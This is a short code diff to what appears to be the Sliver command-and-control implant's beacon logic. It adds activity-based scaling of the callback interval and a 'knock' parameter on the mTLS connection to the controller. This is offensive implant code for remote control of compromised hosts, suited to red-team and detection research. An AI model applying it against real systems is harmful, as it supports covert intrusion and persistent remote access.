@@ -30,9 +30,9 @@ import (
 	"net/url"
 	"time"
 
-	// {{if .Config.MTLSc2Enabled}}
-	"crypto/tls"
+	"github.com/bishopfox/sliver/implant/sliver/activity"
 
+	// {{if .Config.MTLSc2Enabled}}
 	"github.com/bishopfox/sliver/implant/sliver/transports/mtls"
 
 	// {{end}}
@@ -105,7 +105,7 @@ func (b *Beacon) Duration() time.Duration {
 	if 0 < b.Jitter() {
 		jitterDuration = time.Duration(insecureRand.Int63n(b.Jitter()))
 	}
-	duration := time.Duration(b.Interval()) + jitterDuration
+	duration := activity.Scale(time.Duration(b.Interval()) + jitterDuration)
 	// {{if .Config.Debug}}
 	log.Printf("Duration: %v", duration)
 	// {{end}}
@@ -191,14 +191,14 @@ func mtlsBeacon(uri *url.URL) *Beacon {
 		lport = 8888
 	}
 
-	var conn *tls.Conn
+	var conn *mtls.Conn
 	beacon := &Beacon{
 		ActiveC2: uri.String(),
 		Init: func() error {
 			return nil
 		},
 		Start: func() error {
-			conn, err = mtls.MtlsConnect(uri.Hostname(), uint16(lport))
+			conn, err = mtls.MtlsConnect(uri.Hostname(), uint16(lport), uri.Query().Get("knock"))
 			if err != nil {
 				return err
 			}